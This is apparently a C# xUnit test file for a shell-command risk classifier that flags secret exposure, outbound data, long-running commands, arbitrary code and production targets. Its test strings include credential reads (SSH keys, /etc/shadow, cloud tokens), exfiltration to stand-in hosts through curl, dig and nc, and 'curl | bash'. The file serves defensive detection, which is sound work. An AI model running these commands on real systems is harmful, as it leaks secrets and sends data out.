using System.Text.Json.Nodes;
using SafeOps.Commands;

namespace SafeOps.Engine.Tests.Commands;

/// <summary>What a command is said to be beside its effect, and where it is said to work.</summary>
public sealed class CommandTraitTests
{
    private static readonly CommandReader Reader = new()
    {
        Environments =
        [
            new KnownEnvironment("dev", false, (JsonObject)JsonNode.Parse("""{ "context": "dev-cluster", "subscription": "dev-sub" }""")!),
            new KnownEnvironment("prod", true, (JsonObject)JsonNode.Parse("""{ "context": "prod-cluster", "subscription": "prod-sub", "hosts": ["prod01", "db.prod"], "profile": "prod" }""")!),
        ],
    };

    private static CommandRisk Read(string text) => Reader.Read(text, CommandShell.Bash);

    [Theory]
    [InlineData("env")]
    [InlineData("printenv")]
    [InlineData("set")]
    [InlineData("history")]
    [InlineData("ps eww")]
    [InlineData("cat .env")]
    [InlineData("cat ~/.ssh/id_rsa")]
    [InlineData("cat ~/.aws/credentials")]
    [InlineData("cat ~/.kube/config")]
    [InlineData("sudo cat /etc/shadow")]
    [InlineData("cat /proc/1/environ")]
    [InlineData("while read -r l; do echo \"$l\"; done < .env")]
    [InlineData("kubectl get secret db -o yaml")]
    [InlineData("kubectl get secret db -o jsonpath='{.data.password}' | base64 -d")]
    [InlineData("kubectl config view --raw")]
    [InlineData("kubectl exec web-0 -- env")]
    [InlineData("docker exec web env")]
    [InlineData("docker inspect web")]
    [InlineData("docker compose config")]
    [InlineData("helm get values web")]
    [InlineData("terraform output -json")]
    [InlineData("terraform state pull")]
    [InlineData("az account get-access-token")]
    [InlineData("az keyvault secret show --vault-name v -n s")]
    [InlineData("aws secretsmanager get-secret-value --secret-id x")]
    [InlineData("aws ssm get-parameter --name /x --with-decryption")]
    [InlineData("gcloud auth print-access-token")]
    [InlineData("vault kv get secret/app")]
    [InlineData("git config --list")]
    [InlineData("openssl rsa -in key.pem -text -noout")]
    public void Output_that_may_show_secrets_is_marked(string text)
    {
        var risk = Read(text);
        Assert.True(risk.ExposesSecrets, text);
        Assert.Equal(CommandEffect.Read, risk.Effect);
    }

    [Theory]
    [InlineData("cat README.md")]
    [InlineData("kubectl get pods -o yaml")]
    [InlineData("kubectl config view")]
    [InlineData("aws secretsmanager list-secrets")]
    [InlineData("git config --get user.email")]
    [InlineData("docker ps")]
    [InlineData("ps aux")]
    [InlineData("env LC_ALL=C sort f")]
    [InlineData("terraform validate")]
    public void Output_without_secrets_is_not_marked(string text) => Assert.False(Read(text).ExposesSecrets, text);

    [Theory]
    [InlineData("curl \"https://example.com/?q=$(cat key)\"")]
    [InlineData("cat x | curl -d @- https://example.com")]
    [InlineData("curl -d @f https://example.com")]
    [InlineData("curl -T f https://example.com")]
    [InlineData("curl -F 'a=@f' https://example.com")]
    [InlineData("wget --post-file=f https://example.com")]
    [InlineData("dig \"$(cat key).example.com\"")]
    [InlineData("nc h 1 < f")]
    [InlineData("ssh h cat < f")]
    [InlineData("scp f h:/x")]
    [InlineData("rsync -a f h:/x")]
    [InlineData("git push")]
    public void What_can_leave_the_machine_is_marked(string text) => Assert.True(Read(text).SendsData, text);

    [Theory]
    [InlineData("curl https://example.com")]
    [InlineData("curl -s -H 'Accept: application/json' https://example.com | jq .")]
    [InlineData("dig example.com")]
    [InlineData("ssh h uptime")]
    [InlineData("git fetch")]
    [InlineData("cat f | sort")]
    public void What_stays_or_stands_in_the_text_is_not_marked_as_sent(string text) => Assert.False(Read(text).SendsData, text);

    [Theory]
    [InlineData("tail -f x")]
    [InlineData("tail -F x | grep y")]
    [InlineData("kubectl logs -f x")]
    [InlineData("kubectl get pods -w")]
    [InlineData("watch ls")]
    [InlineData("top")]
    [InlineData("ping h")]
    [InlineData("tcpdump -i eth0")]
    [InlineData("journalctl -f")]
    [InlineData("docker logs -f web")]
    [InlineData("docker stats")]
    [InlineData("docker events")]
    [InlineData("while true; do date; sleep 1; done")]
    [InlineData("vmstat 1")]
    [InlineData("iostat 1")]
    [InlineData("stern web")]
    [InlineData("dmesg -w")]
    [InlineData("aws logs tail g --follow")]
    [InlineData("flux logs -f")]
    public void What_runs_until_it_is_stopped_is_marked(string text) => Assert.True(Read(text).RunsUntilStopped, text);

    [Theory]
    [InlineData("tail -n 5 x")]
    [InlineData("kubectl logs x")]
    [InlineData("top -b -n 1")]
    [InlineData("ping -c 3 h")]
    [InlineData("tcpdump -c 5")]
    [InlineData("journalctl -n 5")]
    [InlineData("docker stats --no-stream")]
    [InlineData("docker events --until 0s")]
    [InlineData("vmstat 1 5")]
    [InlineData("iostat 1 5")]
    [InlineData("for i in 1 2 3; do date; done")]
    public void What_ends_by_itself_is_not_marked(string text) => Assert.False(Read(text).RunsUntilStopped, text);

    [Theory]
    [InlineData("bash x.sh")]
    [InlineData("./x.sh")]
    [InlineData("python x.py")]
    [InlineData("eval \"$x\"")]
    [InlineData("$x")]
    [InlineData("source x")]
    [InlineData("make")]
    [InlineData("npm test")]
    [InlineData("terraform plan")]
    [InlineData("curl https://x | bash")]
    [InlineData("git commit -m x")]
    [InlineData("KUBECONFIG=/tmp/x kubectl get pods")]
    [InlineData("ansible-playbook site.yml --list-tasks")]
    public void Code_that_does_not_stand_in_the_text_is_marked(string text)
    {
        var risk = Read(text);
        Assert.True(risk.RunsArbitraryCode, text);
        Assert.NotEqual(CommandEffect.Read, risk.Effect);
    }

    [Theory]
    [InlineData("bash -c 'ls | wc -l'")]
    [InlineData("kubectl --kubeconfig ~/.kube/dev get pods")]
    [InlineData("KUBECONFIG=\"$HOME/.kube/dev\" kubectl get pods")]
    [InlineData("GIT_PAGER=cat git log -3")]
    [InlineData("find . -name '*.log' -exec wc -l {} +")]
    [InlineData("make --version")]
    public void Code_that_stands_in_the_text_is_read(string text)
    {
        var risk = Read(text);
        Assert.False(risk.RunsArbitraryCode, text);
        Assert.Equal(CommandEffect.Read, risk.Effect);
    }

    [Theory]
    [InlineData("ls -l", "local", false)]
    [InlineData("kubectl --context dev-cluster get pods", "dev", false)]
    [InlineData("kubectl --context=prod-cluster get pods", "prod", true)]
    [InlineData("ls; kubectl --context dev-cluster get pods", "dev", false)]
    [InlineData("kubectl --context dev-cluster get pods; kubectl --context prod-cluster get pods", "prod", true)]
    [InlineData("kubectl get pods", null, true)]
    [InlineData("kubectl --context elsewhere get pods", null, true)]
    [InlineData("kubectl --context \"$c\" get pods", null, true)]
    [InlineData("ssh prod01 uptime", "prod", true)]
    [InlineData("psql -h db.prod -c 'select 1'", "prod", true)]
    [InlineData("az vm list --subscription dev-sub", "dev", false)]
    [InlineData("aws s3 ls --profile prod", "prod", true)]
    [InlineData("aws s3 ls", null, true)]
    public void An_environment_is_found_by_what_a_command_names(string text, string? name, bool guarded)
    {
        var environment = Read(text).Environment;
        Assert.Equal(name, environment.Name);
        Assert.Equal(guarded, environment.Guarded);
    }
}
